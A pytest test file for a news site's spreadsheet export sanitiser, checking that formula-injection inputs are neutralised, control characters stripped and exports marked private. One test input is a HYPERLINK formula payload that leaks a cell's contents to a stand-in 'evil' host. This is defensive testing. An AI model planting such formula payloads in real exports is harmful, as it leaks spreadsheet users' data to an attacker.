import csv
import time
from datetime import UTC, datetime
from io import StringIO

import pytest
from hypothesis import given, strategies as st

from tests.submissions.letters import make_letter
from wagtail_regional_news.desk.queries import all_letters
from wagtail_regional_news.desk.renderers import Batches, SafeExportMixin, plain_cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+7 910", "'+7 910"),
        ("-1", "'-1"),
        ("@SUM", "'@SUM"),
        (" =1", "' =1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1", "'＝1"),
        ("\x01=1", "'=1"),
        ("a\x00b\x1fc\n", "abc\n"),
        ("1 = 1", "1 = 1"),
        ("", ""),
        (7, 7),
        (None, None),
        (datetime(2026, 3, 7, 9, tzinfo=UTC), datetime(2026, 3, 7, 12)),  # noqa: DTZ001
    ],
)
def test_cells_are_text(value, cell):
    assert plain_cell(value) == cell


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('Мост;=HYPERLINK("http://evil/?"&A1;"x")', 'Мост;\'=HYPERLINK("http://evil/?"&A1;"x")'),
        ("a\n=1+1", "a\n'=1+1"),
        ("a\n\n  =1", "a\n\n  '=1"),
        ("a\t=1", "a\t'=1"),
        ('a;"=1"', 'a;"\'=1"'),
        (";=;=", ";'=;'="),
        ("- one\n- two", "'- one\n'- two"),
        ("Холодно, -5; кто-то @anna, a@b.ru + 1 = 2", "Холодно, -5; кто-то @anna, a@b.ru + 1 = 2"),
        ("«Кран» - это; потом\nещё", "«Кран» - это; потом\nещё"),
    ],
)
def test_no_formula_hides_within_a_text(text, cell):
    assert plain_cell(text, inside=True) == cell


@given(st.lists(st.text(';,\t\n\r "=+-@a1', max_size=20), min_size=2, max_size=4))
def test_a_file_holds_no_formula_however_its_cells_are_parted(texts):
    file = StringIO(newline="")
    rows = csv.writer(file)
    for number in (1, 2):
        rows.writerow([number, *(plain_cell(text, inside=True) for text in texts)])
    for delimiter, quotes in ((",", ""), (";", '"'), ("\t", '"')):
        read = csv.reader(StringIO(file.getvalue(), newline=""), delimiter=delimiter)
        for cell in (cell for row in read for cell in row):
            assert not cell.lstrip(f" \t\r\n{quotes}").startswith(("=", "+", "-", "@")), delimiter


def test_no_text_takes_long():
    began = time.perf_counter()
    for piece in ("\n", ";", '"', "; ", "\n="):
        plain_cell(piece * 20_000, inside=True)
    assert time.perf_counter() - began < 1


@pytest.mark.django_db
def test_a_workbook_needs_no_mark_within_its_cells():
    view = SafeExportMixin()
    cells = [
        view.preprocess_field_value("body", "a\n- b", export_format)
        for export_format in ("csv", "xlsx")
    ]
    assert cells == ["a\n'- b", "a\n- b"]


@pytest.mark.django_db
def test_rows_are_read_in_batches(django_assert_num_queries):
    make_letter()
    rows = Batches(all_letters().prefetch_related("photos"))
    with django_assert_num_queries(2):
        assert len(list(rows)) == 1
    assert rows.model is all_letters().model


@pytest.mark.django_db
def test_a_file_says_that_it_is_of_utf8_and_for_nobody_else():
    make_letter(title="Кран")
    view = SafeExportMixin()
    view.list_export = ["title"]
    response = view.as_spreadsheet(all_letters(), "csv")
    data = b"".join(response.streaming_content)
    assert data == "\ufeffTitle\r\nКран\r\n".encode()
    assert response.headers["Cache-Control"] == "private, no-store"
